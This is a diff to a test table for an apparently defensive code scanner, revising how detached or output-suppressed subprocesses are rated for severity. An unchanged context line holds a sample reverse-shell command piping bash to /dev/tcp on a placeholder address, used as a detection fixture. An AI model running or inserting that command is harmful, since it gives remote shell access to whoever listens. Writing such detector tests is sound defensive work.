@@ -239,11 +239,19 @@ CASES = {
         "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
         "PORT = 4444\n",
     ),
-    "DEVNULL on both streams is silent execution; capture_output is not": Case(
+    "a detached program with every stream discarded is high; capture_output is not": Case(
         "silent-process", "high",
-        "import subprocess\nsubprocess.Popen(['x'], stdout=subprocess.DEVNULL, "
-        "stderr=subprocess.DEVNULL)\n",
+        "import subprocess\nsubprocess.Popen(['x'], stdin=subprocess.DEVNULL, "
+        "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n",
         "import subprocess\nsubprocess.run(['git', 'status'], capture_output=True)\n",
+    ),
+    "discarding output alone is medium; it is not silent execution at high": Case(
+        "silent-process", "medium",
+        "import subprocess\nsubprocess.run(['git', 'fetch'], stdout=subprocess.DEVNULL, "
+        "stderr=subprocess.DEVNULL)\n",
+        "import subprocess\nsubprocess.run(['git', 'fetch'], stdout=subprocess.DEVNULL, "
+        "stderr=subprocess.DEVNULL)\n",
+        "high",
     ),
     "a mining pool is critical; the word 'mining' is not": Case(
         "cryptominer", "critical",
